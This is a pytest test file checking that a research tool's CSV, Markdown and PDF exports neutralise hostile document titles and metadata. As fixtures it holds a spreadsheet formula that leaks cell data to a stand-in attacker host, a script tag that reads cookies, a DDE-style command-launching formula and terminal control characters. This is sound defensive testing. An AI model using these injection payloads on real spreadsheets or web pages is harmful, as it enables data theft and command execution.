"""Exports a spreadsheet or a browser would execute (issue 34, item 5), through the real service: a
document whose own first line is a formula (``=HYPERLINK(...)``), an HTML page whose ``<title>``
holds ``<script>``, and bibliographic fields edited with control characters (ESC, BEL, NUL, U+202E)
over ``PATCH /api/documents`` and ``prp docs edit``. The edits are stored without their control
characters; no CSV cell starts a formula (OWASP's CSV-injection guidance: an apostrophe first); the
Markdown exports hold no HTML tag, and the report's Markdown renders (CommonMark, as the PDF export
renders it) to no tag of the document's."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from fastapi.testclient import TestClient
from markdown_it import MarkdownIt

from config import EmbeddingSettings, Settings, StorageSettings
from corpus.library import Library
from strategies.offline.strategy import OfflineStrategy
from ui.cli.main import main as cli_main
from ui.core.local import LocalPortal
from ui.service.app import create_app

LOCAL = dict(base_url="http://127.0.0.1:8400", client=("127.0.0.1", 50000))
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Green roof review")'
SCRIPT_TITLE = "Green roof survey <script>alert(document.cookie)</script>"
CONTROLS = "\x1b[2J\x07\x00\u202e"
QUESTION = "How much annual rainfall do extensive green roofs retain?"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CONTROL_CHARACTER = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
HTML_TAG = re.compile(r"<[A-Za-z/!?]")


def _write_documents(root) -> None:
    docs = root / "docs"
    docs.mkdir()
    (docs / "review.md").write_text(
        f"# {FORMULA_TITLE}\n\nAcross the field studies we reviewed, extensive green roofs retain 55 percent of "
        "annual rainfall.\n",
        encoding="utf-8",
    )
    (docs / "survey.html").write_text(
        f"<html><head><title>{SCRIPT_TITLE}</title></head><body><p>Across the monitored sites, extensive green "
        "roofs retain 70 percent of annual rainfall.</p></body></html>",
        encoding="utf-8",
    )
    (docs / "memo.md").write_text(
        "# @SUM(1+1)*cmd|' /C calc'!A0\n\nA rooftop memo: the roof membrane was replaced in 2019 after the "
        "drainage survey.\n",
        encoding="utf-8",
    )


@pytest.fixture(scope="module")
def exported(tmp_path_factory, models_dir, embedder) -> dict:
    """Every export of a report over the three documents, after the edits, fetched from the API."""
    root = tmp_path_factory.mktemp("hostile-exports")
    _write_documents(root)
    settings = Settings(
        storage=StorageSettings(data_dir=root / "data"), embeddings=EmbeddingSettings(models_path=models_dir)
    )
    with Library(settings, embedder=embedder) as library:
        library.ingest([root / "docs"])
        memo = next(d for d in library.registry.documents() if d.path.endswith("memo.md"))
    # `prp docs edit`, in this process as a user's shell would run it, on the closed library.
    mp = pytest.MonkeyPatch()
    mp.setenv("PRP_DATA_DIR", str(settings.storage.data_dir))
    mp.setenv("PRP_MODELS_DIR", str(models_dir))
    try:
        edit = ["docs", "edit", memo.doc_id, "--venue", f"Roof{CONTROLS} Letters", "--author", f"Ana{CONTROLS} Cruz"]
        assert cli_main(edit) == 0
    finally:
        mp.undo()
    library = Library(settings, embedder=embedder)
    app = create_app(LocalPortal(library, OfflineStrategy(embedder)), chat=False)
    with TestClient(app, **LOCAL) as client:
        survey = next(d for d in client.get("/api/documents").json() if d["type"] == "html")
        patched = client.patch(
            f"/api/documents/{survey['doc_id']}",
            json={"title": f"{SCRIPT_TITLE}{CONTROLS}", "authors": [f"Ingrid{CONTROLS} Halvorsen", CONTROLS]},
        )
        assert patched.status_code == 200, patched.text
        documents = client.get("/api/documents").json()
        run = client.post("/api/ask", json={"topic": QUESTION, "options": {"max_retries": 0}}).json()
        with client.stream("GET", run["events"]) as events:
            for _ in events.iter_lines():
                pass
        files = client.get(f"/api/threads/{run['thread_id']}/exports").json()
        return {
            "documents": documents,
            "patched": patched.json(),
            "report": client.get(run["report"]).json(),
            **{f["format"]: client.get(f["url"]).text for f in files},
        }


@pytest.mark.timeout(300)
def test_edits_are_stored_without_control_characters(exported):
    assert exported["patched"]["title"] == SCRIPT_TITLE
    assert exported["patched"]["bibliography"]["authors"] == ["Ingrid Halvorsen"]  # a name of controls only: none
    memo = next(d for d in exported["documents"] if d["path"].endswith("memo.md"))
    assert memo["bibliography"]["venue"] == "Roof Letters" and memo["bibliography"]["authors"] == ["Ana Cruz"]
    assert not CONTROL_CHARACTER.search(json.dumps(exported["documents"], ensure_ascii=False))


@pytest.mark.timeout(300)
def test_no_csv_cell_is_a_formula(exported):
    report = exported["report"]
    assert report["disagreements"], "the 55 and 70 percent sources should disagree"
    for name in ("evidence-csv", "contradictions-csv"):
        rows = list(csv.reader(io.StringIO(exported[name])))
        assert len(rows) > 1, name
        for cell in (c for row in rows for c in row):
            assert not cell.startswith(FORMULA_STARTS), (name, cell)
            assert not CONTROL_CHARACTER.search(cell), (name, cell)
    evidence = list(csv.DictReader(io.StringIO(exported["evidence-csv"])))
    assert f"'{FORMULA_TITLE}" in {row["document"] for row in evidence}  # shown as written, never run
    sides = [
        row[k] for row in csv.DictReader(io.StringIO(exported["contradictions-csv"])) for k in ("side_a", "side_b")
    ]
    assert any(side.startswith(f"'{FORMULA_TITLE}") for side in sides)


@pytest.mark.timeout(300)
def test_markdown_exports_hold_no_html_and_no_control_characters(exported):
    for name in ("report-md", "bibliography-md", "contradictions-md"):
        text = exported[name]
        assert not HTML_TAG.search(text), (name, HTML_TAG.search(text))
        assert not CONTROL_CHARACTER.search(text.replace("\t", "")), name
    assert "&lt;script>alert(document.cookie)&lt;/script>" in exported["bibliography-md"]  # the title as written
    # The PDF export renders the report's Markdown as CommonMark, which passes raw HTML through.
    rendered = MarkdownIt("commonmark").render(exported["report-md"])
    assert "<script" not in rendered and "&lt;script" in rendered
    # The same report's Markdown in the JSON is the same inert text.
    assert exported["report"]["markdown"] == exported["report-md"]
